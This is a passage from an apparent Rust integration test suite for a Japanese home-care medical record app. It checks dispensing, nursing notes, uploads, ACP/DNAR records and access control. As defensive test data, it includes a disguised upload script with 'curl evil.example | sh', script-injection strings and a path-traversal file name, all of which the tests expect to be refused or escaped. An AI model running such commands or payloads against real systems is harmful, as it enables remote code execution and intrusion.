        for (prescription, code, message) in [
            (
                foreign_request.as_str(),
                "2171022F1020",
                "指定した処方が見つかりません。",
            ),
            (
                "no-such-request",
                "2171022F1020",
                "指定した処方が見つかりません。",
            ),
            (
                request.as_str(),
                "12-34",
                "薬剤コード: YJコード（12桁）またはHOTコード（7・9・13桁）を入力してください。",
            ),
        ] {
            let (status, _, body) = post_form(
                &app,
                &pharmacist,
                &format!("{url}/dispense"),
                &dispense(prescription, code),
            )
            .await;
            assert_eq!(status, 400, "{prescription}/{code}");
            let errs = errors(&body);
            assert!(errs.iter().any(|e| e.ends_with(message)), "{errs:?}");
            assert!(
                body.contains("id=\"dispense-form\" open")
                    && body.contains("value=\"アムロジピン錠5mg「サワイ」\"")
            );
        }
        assert_eq!(creates(&app, &person).await, stored);
        let (status, location, body) = post_form(
            &app,
            &pharmacist,
            &format!("{url}/dispense"),
            &dispense(&request, "2171022F1020"),
        )
        .await;
        assert_eq!(status, 303, "{body}");
        assert!(location.ends_with("#medications"));
        let dispenses = fhir_search(
            &app,
            &doctor,
            &format!("MedicationDispense?patient={person}"),
        )
        .await;
        assert_eq!(dispenses.len(), 1);
        let d = &dispenses[0];
        assert_eq!(
            d["authorizingPrescription"][0]["reference"],
            format!("MedicationRequest/{request}")
        );
        assert_eq!(d["medicationCodeableConcept"]["coding"][0]["system"], YJ);
        assert_eq!(d["quantity"]["value"], 28.0);
        assert_eq!(d["daysSupply"]["value"], 28.0);
        assert_eq!(d["whenHandedOver"], format!("{handed}:00+09:00"));
        // Shown beneath its prescription on the doctor's page.
        let page = get(&app, &doctor, &url).await.1;
        let card = between(&page, "<article class=\"card med\">", "</article>")
            .expect("prescription card");
        assert!(
            card.contains("アムロジピン錠5mg") && card.contains("薬局の調剤記録"),
            "{card}"
        );
        assert!(
            card.contains("アムロジピン錠5mg「サワイ」")
                && card.contains("残薬なし。ふらつきに注意")
                && card.contains(&handed.replace('T', " "))
        );
        assert!(!page.contains("調剤記録（処方と紐づかないもの）"));
        assert_eq!(count(&page, "処方・投薬"), 2);
        // A physician does not record dispensing.
        assert!(!page.contains("id=\"dispense-form\""));
        let doctor_token = csrf(&app, &doctor).await;
        let mut by_doctor = dispense(&request, "");
        by_doctor[0].1 = doctor_token.clone();
        let (status, _, _) = post_form(&app, &doctor, &format!("{url}/dispense"), &by_doctor).await;
        assert_eq!(status, 403);

        // A nursing note: kept with its line breaks, escaped, shown with its source.
        let (nurse, _) = app.sign_in("nurse1").await;
        let nurse_token = csrf(&app, &nurse).await;
        let text = "訪問時、下肢の浮腫あり。\n<script>alert(1)</script>";
        for (form, message) in [
            (
                vec![("kind", "nurse"), ("title", "訪問看護"), ("text", "   ")],
                "記録内容: 入力してください。",
            ),
            (
                vec![("kind", "diary"), ("title", "x"), ("text", "本文")],
                "記録の種類: 選択肢から選んでください",
            ),
        ] {
            let mut form: Vec<(&str, String)> =
                form.into_iter().map(|(k, v)| (k, v.to_string())).collect();
            form.push(("csrf", nurse_token.clone()));
            let (status, _, body) = post_form(&app, &nurse, &format!("{url}/note"), &form).await;
            assert_eq!(status, 400, "{body}");
            assert!(
                errors(&body).iter().any(|e| e == message),
                "{:?}",
                errors(&body)
            );
            assert!(body.contains("id=\"note-form\" open"));
        }
        let (status, _, body) = post_form(
            &app,
            &nurse,
            &format!("{url}/note"),
            &[
                ("csrf", nurse_token.clone()),
                ("kind", "nurse".into()),
                ("title", "訪問看護".into()),
                ("text", text.into()),
            ],
        )
        .await;
        assert_eq!(status, 303, "{body}");
        let docs = fhir_search(
            &app,
            &doctor,
            &format!("DocumentReference?patient={person}"),
        )
        .await;
        assert_eq!(docs.len(), 1);
        assert_eq!(docs[0]["type"]["coding"][0]["code"], "34746-8");
        assert_eq!(
            docs[0]["content"][0]["attachment"]["contentType"],
            "text/plain; charset=utf-8"
        );
        let stored_text = base64::engine::general_purpose::STANDARD
            .decode(
                docs[0]["content"][0]["attachment"]["data"]
                    .as_str()
                    .unwrap(),
            )
            .unwrap();
        assert_eq!(String::from_utf8(stored_text).unwrap(), text);
        let page = get(&app, &doctor, &url).await.1;
        let documents = section(&page, "documents");
        assert!(
            documents.contains("訪問看護") && documents.contains("看護記録"),
            "{documents}"
        );
        assert!(
            documents.contains("&#60;script&#62;alert(1)") && !documents.contains("<script>"),
            "the note is escaped: {documents}"
        );
        assert_eq!(sources(documents), [HOSPITAL]);
        // The note's text also comes back through the download route, as text.
        let res = doctor
            .get(app.url(&format!(
                "{url}/documents/{}",
                docs[0]["id"].as_str().unwrap()
            )))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.headers()["content-type"], "text/plain; charset=utf-8");
        assert_eq!(res.text().await.unwrap(), text);

        // A clerk and a municipal officer do not record care: no forms, 403, nothing stored.
        let stored = creates(&app, &person).await;
        for login in ["admin1", "muni1"] {
            let (client, _) = app.sign_in(login).await;
            let (status, page) = get(&app, &client, &url).await;
            assert_eq!(status, 200, "{login} belongs to the registering facility");
            for form in ["vitals-form", "note-form", "dispense-form"] {
                assert!(
                    !page.contains(&format!("id=\"{form}\"")),
                    "{login} offered {form}"
                );
            }
            let token = csrf(&app, &client).await;
            let (status, _, _) = post_form(
                &app,
                &client,
                &format!("{url}/vitals"),
                &vitals_form(&token, &jst_local(-5), &[("pulse", "70")]),
            )
            .await;
            assert_eq!(status, 403, "{login} vitals");
            let (status, _, _) = post_form(
                &app,
                &client,
                &format!("{url}/note"),
                &[
                    ("csrf", token.clone()),
                    ("kind", "nurse".into()),
                    ("text", "メモ".into()),
                ],
            )
            .await;
            assert_eq!(status, 403, "{login} note");
            let mut by_them = dispense(&request, "");
            by_them[0].1 = token.clone();
            let (status, _, _) =
                post_form(&app, &client, &format!("{url}/dispense"), &by_them).await;
            assert_eq!(status, 403, "{login} dispense");
        }
        assert_eq!(creates(&app, &person).await, stored);

        // No CSRF token, or another session's: refused before anything happens.
        for token in ["", "forged", nurse_token.as_str()] {
            let (status, _, _) = post_form(
                &app,
                &doctor,
                &format!("{url}/vitals"),
                &vitals_form(token, &jst_local(-5), &[("pulse", "70")]),
            )
            .await;
            assert_eq!(status, 403, "vitals with csrf {token:?}");
            let (status, _, _) = post_form(
                &app,
                &doctor,
                &format!("{url}/note"),
                &[
                    ("csrf", token.to_string()),
                    ("kind", "nurse".into()),
                    ("text", "メモ".into()),
                ],
            )
            .await;
            assert_eq!(status, 403, "note with csrf {token:?}");
            let mut forged = dispense(&request, "");
            forged[0].1 = token.to_string();
            let (status, _, _) =
                post_form(&app, &pharmacist, &format!("{url}/dispense"), &forged).await;
            assert_eq!(status, 403, "dispense with csrf {token:?}");
        }
        let res = doctor
            .post(app.url(&format!("{url}/attachments")))
            .multipart(upload_form(
                None,
                "写真",
                PNG.to_vec(),
                "a.png",
                "image/png",
            ))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 403, "upload without csrf");
        assert_eq!(creates(&app, &person).await, stored);
    })
    .await;
}

// --- attachments, downloads, outsiders ----------------------------------------------------

#[tokio::test]
async fn attachments_are_judged_by_content_and_downloads_recheck_access() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let (other, _) = app.sign_in("otherdoc").await;
        let (outsider, _) = app.sign_in("cm1").await;
        let person = register(&app, &doctor, "U-1").await;
        let url = format!("/patients/{person}/record");
        let token = csrf(&app, &doctor).await;
        let upload = |form: reqwest::multipart::Form| {
            doctor
                .post(app.url(&format!("{url}/attachments")))
                .multipart(form)
                .send()
        };

        let res = upload(upload_form(
            Some(&token),
            "褥瘡の写真",
            PNG.to_vec(),
            "IMG_0001.png",
            "image/png",
        ))
        .await
        .unwrap();
        assert_eq!(res.status(), 303);
        assert!(res.headers()["location"]
            .to_str()
            .unwrap()
            .ends_with("#documents"));
        // A PDF that claims to be a JPEG is stored as what it is, under a safe name.
        let res = upload(upload_form(
            Some(&token),
            "",
            PDF.to_vec(),
            "../../紹介状\".jpg",
            "image/jpeg",
        ))
        .await
        .unwrap();
        assert_eq!(res.status(), 303);

        // Refused: a script renamed .png, a file over 10 MiB, a body over the limit, no file.
        let stored = creates(&app, &person).await;
        let mut too_big = PNG.to_vec();
        too_big.resize(10 * 1024 * 1024 + 1, 0);
        for (bytes, name, message) in [
            (
                b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
                "photo.png",
                Some("PDF・JPEG・PNG 以外のファイルは添付できません"),
            ),
            (
                b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
                    .to_vec(),
                "image.png",
                Some("PDF・JPEG・PNG 以外のファイルは添付できません"),
            ),
            (
                too_big,
                "big.png",
                Some("ファイルが大きすぎます（10 MB まで）。"),
            ),
            (Vec::new(), "empty.png", Some("ファイルを選んでください。")),
        ] {
            let res = upload(upload_form(Some(&token), "写真", bytes, name, "image/png"))
                .await
                .unwrap();
            assert_eq!(res.status(), 400, "{name}");
            let body = res.text().await.unwrap();
            if let Some(message) = message {
                assert!(
                    errors(&body).iter().any(|e| e.starts_with(message)),
                    "{name}: {:?}",
                    errors(&body)
                );
                assert!(body.contains("id=\"upload-form\" open"));
            }
        }
        let mut huge = PNG.to_vec();
        huge.resize(12 * 1024 * 1024, 0);
        match upload(upload_form(
            Some(&token),
            "写真",
            huge,
            "huge.png",
            "image/png",
        ))
        .await
        {
            Ok(res) => assert!(
                res.status() == 400 || res.status() == 413,
                "{}",
                res.status()
            ),
            Err(e) => assert!(e.is_request() || e.is_body(), "{e}"), // the server may close early
        }
        assert_eq!(creates(&app, &person).await, stored, "nothing stored");

        // Two documents, each with its Binary; listed with links, newest first.
        let docs = fhir_search(
            &app,
            &doctor,
            &format!("DocumentReference?patient={person}"),
        )
        .await;
        assert_eq!(docs.len(), 2);
        let photo = docs
            .iter()
            .find(|d| d["description"] == "褥瘡の写真")
            .expect("the photo");
        let letter = docs
            .iter()
            .find(|d| d["description"] == "紹介状.pdf")
            .expect("the letter, named by content");
        assert_eq!(
            photo["content"][0]["attachment"]["contentType"],
            "image/png"
        );
        assert_eq!(photo["content"][0]["attachment"]["size"], PNG.len());
        assert_eq!(
            letter["content"][0]["attachment"]["contentType"],
            "application/pdf"
        );
        let photo_href = format!("{url}/documents/{}", photo["id"].as_str().unwrap());
        let letter_href = format!("{url}/documents/{}", letter["id"].as_str().unwrap());
        let page = get(&app, &doctor, &url).await.1;
        let documents = section(&page, "documents");
        assert!(
            documents.contains(&format!("href=\"{photo_href}\""))
                && documents.contains(&format!("href=\"{letter_href}\"")),
            "{documents}"
        );
        assert!(documents.contains("画像") && documents.contains("PDF文書"));
        assert_eq!(sources(documents), [HOSPITAL, HOSPITAL]);

        // Downloads: the PNG inline, the PDF as an attachment, byte for byte; audited.
        let reads = page_reads(&app, &person, "success").await;
        let res = doctor.get(app.url(&photo_href)).send().await.unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.headers()["content-type"], "image/png");
        assert_eq!(res.headers()["cache-control"], "no-store");
        assert!(res.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("inline"));
        assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);
        let res = doctor.get(app.url(&letter_href)).send().await.unwrap();
        assert_eq!(res.headers()["content-type"], "application/pdf");
        let disposition = res.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .to_string();
        assert!(
            disposition.starts_with("attachment")
                && disposition.ends_with(".pdf")
                && !disposition.contains(".."),
            "{disposition}"
        );
        assert_eq!(res.bytes().await.unwrap().as_ref(), PDF);
        assert_eq!(
            page_reads(&app, &person, "success").await,
            reads,
            "downloads are not page views"
        );
        let downloads = app
            .store
            .search_audit(&AuditQuery {
                action_prefix: Some("patient.read".into()),
                patient_id: Some(person.clone()),
                outcome: Some("success".into()),
                limit: 1000,
                ..Default::default()
            })
            .await
            .unwrap()
            .into_iter()
            .filter(|r| r.entry.detail.contains("/record/documents/"))
            .count();
        assert_eq!(downloads, 2, "each download is audited");

        // A document of another patient is not reachable through this patient's URL.
        let second = register_named(&app, &doctor, "U-2", ("次郎", "じろう"), "1950-01-02").await;
        let res = doctor
            .post(app.url(&format!("/patients/{second}/record/attachments")))
            .multipart(upload_form(
                Some(&token),
                "別人の写真",
                PNG.to_vec(),
                "x.png",
                "image/png",
            ))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let theirs = fhir_search(
            &app,
            &doctor,
            &format!("DocumentReference?patient={second}"),
        )
        .await;
        let theirs = theirs[0]["id"].as_str().unwrap();
        assert_eq!(
            get(&app, &doctor, &format!("{url}/documents/{theirs}"))
                .await
                .0,
            404
        );
        assert_eq!(
            page_reads_of(&app, &person, "denied", theirs).await,
            1,
            "the refusal is audited under the patient of the URL"
        );
        assert_eq!(
            get(
                &app,
                &doctor,
                &format!("/patients/{second}/record/documents/{theirs}")
            )
            .await
            .0,
            200
        );
        assert_eq!(
            get(&app, &doctor, &format!("{url}/documents/no-such-document"))
                .await
                .0,
            404
        );

        // Outsiders: 404 for the page, every form and every document; nothing stored.
        let stored = creates(&app, &person).await;
        for client in [&other, &outsider] {
            let token = csrf(&app, client).await;
            let (status, body) = get(&app, client, &url).await;
            assert_eq!(status, 404);
            assert!(!body.contains("苫小牧") && !body.contains("褥瘡"));
            assert_eq!(get(&app, client, &photo_href).await.0, 404);
            assert_eq!(get(&app, client, &letter_href).await.0, 404);
            let (status, _, _) = post_form(
                &app,
                client,
                &format!("{url}/vitals"),
                &vitals_form(&token, &jst_local(-5), &[("pulse", "70")]),
            )
            .await;
            assert_eq!(status, 404);
            let (status, _, _) = post_form(
                &app,
                client,
                &format!("{url}/note"),
                &[
                    ("csrf", token.clone()),
                    ("kind", "nurse".into()),
                    ("text", "メモ".into()),
                ],
            )
            .await;
            assert_eq!(status, 404);
            let (status, _, _) = post_form(
                &app,
                client,
                &format!("{url}/dispense"),
                &[
                    ("csrf", token.clone()),
                    ("drug", "薬".into()),
                    ("quantity", "1".into()),
                    ("handed_over", jst_local(-5)),
                ],
            )
            .await;
            assert_eq!(status, 404);
            let res = client
                .post(app.url(&format!("{url}/attachments")))
                .multipart(upload_form(
                    Some(&token),
                    "写真",
                    PNG.to_vec(),
                    "a.png",
                    "image/png",
                ))
                .send()
                .await
                .unwrap();
            assert_eq!(res.status(), 404);
        }
        // A made-up person answers exactly like a hidden one.
        assert_eq!(
            get(
                &app,
                &other,
                "/patients/00000000000000000000000000000000/record"
            )
            .await
            .0,
            404
        );
        assert_eq!(creates(&app, &person).await, stored);

        // With consent and membership the other hospital may download; after withdrawal not.
        consent_and_join_other(&app, &doctor, &other, &person).await;
        let res = other.get(app.url(&photo_href)).send().await.unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);
        withdraw(&app, &doctor, &person).await;
        assert_eq!(
            get(&app, &other, &photo_href).await.0,
            404,
            "access re-checked at download"
        );
        assert_eq!(get(&app, &other, &letter_href).await.0, 404);
        assert_eq!(
            get(&app, &doctor, &photo_href).await.0,
            200,
            "the hospital's own document"
        );
        let denied = app
            .store
            .search_audit(&AuditQuery {
                action_prefix: Some("patient.read".into()),
                patient_id: Some(person.clone()),
                outcome: Some("denied".into()),
                limit: 1000,
                ..Default::default()
            })
            .await
            .unwrap();
        assert!(
            denied
                .iter()
                .any(|r| r.entry.actor_login.as_deref() == Some("cm1")),
            "outsider refusals are audited"
        );
        let photo_id = photo_href.rsplit('/').next().unwrap();
        assert!(
            denied
                .iter()
                .any(|r| r.entry.actor_login.as_deref() == Some("otherdoc")
                    && r.entry.detail.contains(photo_id)
                    && r.entry.detail.contains("not_in_scope")),
            "the download refused after withdrawal is audited"
        );
    })
    .await;
}

// --- ACP / DNAR ------------------------------------------------------------------------

fn acp_form(
    token: &str,
    cpr: &str,
    discussed_on: &str,
    next_review: &str,
) -> Vec<(&'static str, String)> {
    vec![
        ("csrf", token.to_string()),
        ("cpr", cpr.into()),
        ("ventilation", "declined".into()),
        ("icu", "undecided".into()),
        ("hospital", "wanted".into()),
        ("tube_feeding", "declined".into()),
        ("dialysis", "undecided".into()),
        (
            "wishes",
            "最期まで自宅で過ごしたい。<script>alert(1)</script>".into(),
        ),
        ("place", "home".into()),
        ("stated_by", "patient".into()),
        ("surrogate_name", "苫小牧 一郎".into()),
        ("surrogate_relationship", "長男".into()),
        ("participants", "本人、長男、主治医、訪問看護師".into()),
        ("discussed_on", discussed_on.into()),
        ("next_review", next_review.into()),
    ]
}

/// The `<section>` with this id (whatever its other attributes).
fn part<'a>(html: &'a str, id: &str) -> &'a str {
    let start = html
        .find(&format!("id=\"{id}\""))
        .unwrap_or_else(|| panic!("no element {id} in {html}"));
    let rest = &html[start..];
    &rest[..rest.find("</section>").expect("section closes")]
}

fn jst_day(days: i64) -> String {
    let now = chrono::Utc::now() + chrono::Duration::hours(9) + chrono::Duration::days(days);
    now.format("%Y-%m-%d").to_string()
}

async fn acp_count(app: &TestApp, person: &str) -> usize {
    let rows = app
        .store
        .fhir_search(
            &renkei_fhir::SearchQuery {
                resource_type: "Consent".into(),
                ids: vec![],
                criteria: vec![],
                last_updated: vec![],
                sort: vec![],
                count: 100,
                offset: 0,
                want_total: false,
            },
            &renkei_storage::fhir::FhirScope::All,
        )
        .await
        .unwrap()
        .rows;
    rows.iter()
        .filter(|r| r.person_id.as_deref() == Some(person))
        .count()
}

#[tokio::test]
async fn acp_wishes_are_recorded_reviewed_and_shown_on_the_emergency_summary() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let (other, _) = app.sign_in("otherdoc").await;
        add_staff(&app, "acp.clerk", Profession::Clerk).await;
        let (clerk, _) = app.sign_in("acp.clerk").await;
        let person = register(&app, &doctor, "ACP-1").await;
        let url = format!("/patients/{person}/acp");

        // Nothing yet: the page says so and offers the form; the summary says so too.
        let (status, html) = get(&app, &doctor, &url).await;
        assert_eq!(status, 200, "{html}");
        assert!(html.contains("id=\"acp-none\""));
        assert!(html.contains("action=\"/patients/"));
        let (_, summary) = get(&app, &doctor, &format!("/patients/{person}/emergency")).await;
        assert!(!part(&summary, "acp").contains("acp-record"));

        // Bad input: a discussion in the future, an unknown choice, no participants →
        // 400 with the reasons, nothing stored.
        let token = csrf(&app, &doctor).await;
        let mut bad = acp_form(&token, "maybe", &jst_day(1), &jst_day(30));
        bad.retain(|(k, _)| *k != "participants");
        let (status, _, body) = post_form(&app, &doctor, &url, &bad).await;
        assert_eq!(status, 400, "{body}");
        let errs = errors(&body);
        assert!(errs.iter().any(|e| e.contains("心肺蘇生")), "{errs:?}");
        assert!(errs.iter().any(|e| e.contains("話し合いの日")), "{errs:?}");
        assert!(errs.iter().any(|e| e.contains("参加者")), "{errs:?}");
        assert_eq!(acp_count(&app, &person).await, 0);

        // A clerk may read the team's pages but does not record ACP; without CSRF nothing.
        let clerk_token = csrf(&app, &clerk).await;
        let (status, _, _) = post_form(
            &app,
            &clerk,
            &url,
            &acp_form(&clerk_token, "declined", &jst_day(0), &jst_day(20)),
        )
        .await;
        assert_eq!(status, 403);
        let (status, _, _) = post_form(
            &app,
            &doctor,
            &url,
            &acp_form("wrong", "declined", &jst_day(0), &jst_day(20)),
        )
        .await;
        assert_eq!(status, 403);
        assert_eq!(acp_count(&app, &person).await, 0);

        // The doctor records a discussion: DNAR, review due in 20 days.
        let (status, location, body) = post_form(
            &app,
            &doctor,
            &url,
            &acp_form(&token, "declined", &jst_day(-1), &jst_day(20)),
        )
        .await;
        assert_eq!(status, 303, "{body}");
        assert!(
            location.ends_with("/acp?msg=notice.acp_saved"),
            "{location}"
        );
        assert_eq!(acp_count(&app, &person).await, 1);
        let (_, html) = get(&app, &doctor, &url).await;
        let current = part(&html, "acp-current");
        assert!(current.contains("DNAR"), "{current}");
        assert!(current.contains("希望しない（DNAR）"));
        assert!(current.contains("苫小牧 一郎（長男）"));
        assert!(
            !current.contains("<script>") && current.contains("alert(1)"),
            "free text is escaped: {current}"
        );
        assert!(
            current.contains(HOSPITAL),
            "the recording facility is named"
        );
        assert!(current.contains("見直し期限まで20日"), "{current}");

        // The emergency summary shows it, with who recorded it and when.
        let (_, summary) = get(&app, &doctor, &format!("/patients/{person}/emergency")).await;
        let acp = part(&summary, "acp");
        assert!(acp.contains("DNAR") && acp.contains(&jst_day(-1)), "{acp}");
        assert!(acp.contains("記録者"), "{acp}");

        // The home page reminds the recording facility of the review.
        let (_, home) = get(&app, &doctor, "/").await;
        assert!(
            part(&home, "acp-reviews").contains(&format!("/patients/{person}/acp")),
            "{home}"
        );

        // The other hospital joins the team: it sees the wishes (emergency information).
        consent_and_join_other(&app, &doctor, &other, &person).await;
        let (status, other_view) = get(&app, &other, &url).await;
        assert_eq!(status, 200);
        assert!(part(&other_view, "acp-current").contains("希望しない（DNAR）"));
        // Not its record: no reminder for it.
        let (_, other_home) = get(&app, &other, "/").await;
        assert!(!other_home.contains("id=\"acp-reviews\""));

        // A review: CPR now wanted, saved as a new record; the old one becomes history.
        let (status, _, body) = post_form(
            &app,
            &doctor,
            &url,
            &acp_form(&token, "wanted", &jst_day(0), &jst_day(180)),
        )
        .await;
        assert_eq!(status, 303, "{body}");
        let (_, html) = get(&app, &doctor, &url).await;
        let current = part(&html, "acp-current");
        assert!(!current.contains("dnar-banner"), "{current}");
        assert!(part(&html, "acp-history").contains("DNAR"));
        let (_, home) = get(&app, &doctor, "/").await;
        assert!(
            !home.contains("id=\"acp-reviews\""),
            "reviewed: no longer due"
        );

        // Withdrawal stops sharing at once: the other hospital sees no other facility's ACP.
        withdraw(&app, &doctor, &person).await;
        let (status, other_view) = get(&app, &other, &url).await;
        assert_eq!(status, 200);
        assert!(other_view.contains("id=\"acp-none\""), "{other_view}");
        assert!(other_view.contains("id=\"acp-not-shared\""));

        // An outsider: 404.
        let stranger = app.browser();
        assert_ne!(get(&app, &stranger, &url).await.0, 200);
    })
    .await;
}

/// 在宅ケア記録: the patient's alert limits (checked, kept as a FHIR Goal), a visit from
/// another facility of the team with care items and a value outside the limits — stored
/// as Observations and notifying the team in the same transaction —, refusals that store
/// nothing, and outsiders who get 404.
#[tokio::test]
async fn the_care_log_keeps_limits_and_a_value_outside_them_notifies_the_team() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let (other, _) = app.sign_in("otherdoc").await;
        let (outsider, _) = app.sign_in("cm1").await;
        let person = register(&app, &doctor, "CL-1").await;
        consent_and_join_other(&app, &doctor, &other, &person).await;
        let url = format!("/patients/{person}/care-log");
        let (status, page) = get(&app, &doctor, &url).await;
        assert_eq!(status, 200, "{page}");
        assert!(page.contains("id=\"limits-none\""), "no limits yet");

        // Limits: a lower bound above the upper one is refused, nothing stored.
        let token = csrf(&app, &doctor).await;
        let limits = |pairs: &[(&str, &str)]| {
            let mut form = vec![("csrf".to_string(), token.clone())];
            form.extend(pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())));
            form
        };
        let res = doctor
            .post(app.url(&format!("{url}/limits")))
            .form(&limits(&[("systolic_low", "160"), ("systolic_high", "90")]))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 400);
        assert!(res
            .text()
            .await
            .unwrap()
            .contains("下限は上限より小さくしてください。"));
        assert!(
            fhir_search(&app, &doctor, &format!("Goal?patient={person}"))
                .await
                .is_empty()
        );
        let res = doctor
            .post(app.url(&format!("{url}/limits")))
            .form(&limits(&[
                ("systolic_high", "150"),
                ("spo2_low", "93"),
                ("weight_high", "52"),
                ("note", "心不全：体重 52 kg 超で連絡"),
            ]))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let (_, page) = get(&app, &doctor, &url).await;
        let current = between(&page, "id=\"limits-current\"><strong>", "</strong>").unwrap();
        assert_eq!(current, "収縮期血圧 ≤150 mmHg、SpO2 ≥93 %、体重 ≤52 kg");
        let goals = fhir_search(&app, &doctor, &format!("Goal?patient={person}")).await;
        assert_eq!(goals.len(), 1);
        assert_eq!(goals[0]["target"].as_array().unwrap().len(), 3);

        // A visit by the other facility: BP 168/90 is outside, the rest is care record.
        let before = creates(&app, &person).await;
        let other_token = csrf(&app, &other).await;
        let visit = |values: &[(&str, &str)]| {
            let mut form = vec![
                ("csrf".to_string(), other_token.clone()),
                ("at".to_string(), jst_local(-30)),
            ];
            form.extend(values.iter().map(|(k, v)| (k.to_string(), v.to_string())));
            form
        };
        let res = other
            .post(app.url(&url))
            .form(&visit(&[
                ("systolic", "168"),
                ("diastolic", "90"),
                ("spo2", "95"),
                ("fluid", "600"),
                ("meal_staple", "50"),
                ("bowel", "0"),
                ("note", "夕方に落ち着かず、帰宅願望あり"),
            ]))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let location = res.headers()["location"].to_str().unwrap().to_string();
        assert!(
            location.contains("msg=notice.care_log_alerted"),
            "{location}"
        );
        assert_eq!(creates(&app, &person).await, before + 1, "one transaction");
        let doctor_id = app.user_id("doctor1").await;
        let other_id = app.user_id("otherdoc").await;
        let inbox = app
            .store
            .notifications()
            .notifications_of(&doctor_id, false, 50, 0)
            .await
            .unwrap();
        let alert = inbox
            .iter()
            .find(|n| n.kind == "vital_limit")
            .expect("notified");
        assert_eq!(alert.person_id.as_deref(), Some(person.as_str()));
        assert!(
            alert.link.starts_with(&format!("{url}#obs-")),
            "{}",
            alert.link
        );
        assert!(app
            .store
            .notifications()
            .notifications_of(&other_id, false, 50, 0)
            .await
            .unwrap()
            .iter()
            .all(|n| n.kind != "vital_limit"));
        let (_, inbox_page) = get(&app, &doctor, "/notifications").await;
        assert!(inbox_page.contains("個別アラート範囲外の値"));

        // In range: recorded without a notification.
        let res = other
            .post(app.url(&url))
            .form(&visit(&[
                ("systolic", "132"),
                ("diastolic", "80"),
                ("sleep", "6.5"),
            ]))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        assert!(res.headers()["location"]
            .to_str()
            .unwrap()
            .contains("care_log_saved"));

        // Refused, nothing stored: an impossible SpO2, an empty visit, a visit by an outsider.
        let stored = creates(&app, &person).await;
        let res = other
            .post(app.url(&url))
            .form(&visit(&[("spo2", "140"), ("fluid", "300")]))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 400);
        let body = res.text().await.unwrap();
        assert!(
            body.contains("SpO2：50〜100%の範囲で入力してください。"),
            "{body}"
        );
        assert!(body.contains("value=\"300\""), "the form is kept");
        let res = other
            .post(app.url(&url))
            .form(&visit(&[]))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 400);
        assert!(res
            .text()
            .await
            .unwrap()
            .contains("少なくとも一つの項目を入力してください。"));
        let outsider_token = csrf(&app, &outsider).await;
        let res = outsider
            .post(app.url(&url))
            .form(&[
                ("csrf", outsider_token),
                ("at", jst_local(-5)),
                ("spo2", "97".into()),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 404);
        assert_eq!(get(&app, &outsider, &url).await.0, 404);
        assert_eq!(creates(&app, &person).await, stored);

        // The page: the visit with its out-of-limits value flagged, care items, the note.
        let (_, page) = get(&app, &doctor, &url).await;
        let table = between(&page, "id=\"visits-table\"", "</table>").unwrap();
        assert!(
            table.contains("<td class=\"value out-of-limits\">168"),
            "{table}"
        );
        assert!(table.contains(">600<") && table.contains("夕方に落ち着かず、帰宅願望あり"));
        assert!(page.contains("aria-label=\"収縮期血圧"), "charts are drawn");
        // As FHIR: the fluid intake is LOINC 9108-2, the note a care-record observation.
        let observations =
            fhir_search(&app, &doctor, &format!("Observation?patient={person}")).await;
        assert!(observations
            .iter()
            .any(|o| o["code"]["coding"][0]["code"] == "9108-2"
                && o["valueQuantity"]["value"] == 600.0));
        assert!(observations
            .iter()
            .any(|o| o["valueString"] == "夕方に落ち着かず、帰宅願望あり"));
    })
    .await;
}

/// ワンチームの目標: a goal set by one facility, progress from another facility of the team
/// (also on the timeline), status changes only by the setting facility, refusals that
/// store nothing, outsiders 404.
#[tokio::test]
async fn team_goals_take_progress_from_every_facility_and_status_from_their_owner() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let (other, _) = app.sign_in("otherdoc").await;
        let (outsider, _) = app.sign_in("cm1").await;
        let person = register(&app, &doctor, "G-1").await;
        consent_and_join_other(&app, &doctor, &other, &person).await;
        let url = format!("/patients/{person}/goals");
        let (status, page) = get(&app, &doctor, &url).await;
        assert_eq!(status, 200);
        assert!(page.contains("id=\"goals-none\""));

        // Refused: no field, a due date in the past; nothing stored.
        let token = csrf(&app, &doctor).await;
        let (status, _, body) = post_form(
            &app,
            &doctor,
            &url,
            &[
                ("csrf", token.clone()),
                ("description", "自宅のトイレまで歩いて行ける".into()),
                ("domain", String::new()),
                ("due", "2001-01-01".into()),
            ],
        )
        .await;
        assert_eq!(status, 400);
        assert!(body.contains("分野を選んでください。") && body.contains("期日は今日以降"));
        assert!(
            fhir_search(&app, &doctor, &format!("Goal?patient={person}"))
                .await
                .is_empty()
        );
        let (status, location, body) = post_form(
            &app,
            &doctor,
            &url,
            &[
                ("csrf", token.clone()),
                ("description", "自宅のトイレまで歩いて行ける".into()),
                ("domain", "rehabilitation".into()),
                ("due", "2099-03-31".into()),
            ],
        )
        .await;
        assert_eq!(status, 303, "{body}");
        let goal_id = location.rsplit("#goal-").next().unwrap().to_string();

        // Progress from the other facility, also a timeline post.
        let other_token = csrf(&app, &other).await;
        let (status, _, body) = post_form(
            &app,
            &other,
            &format!("{url}/{goal_id}/progress"),
            &[
                ("csrf", other_token.clone()),
                ("assessment", "improving".into()),
                ("text", "手すりを使って 10 m 歩行できた".into()),
            ],
        )
        .await;
        assert_eq!(status, 303, "{body}");
        let (_, page) = get(&app, &doctor, &url).await;
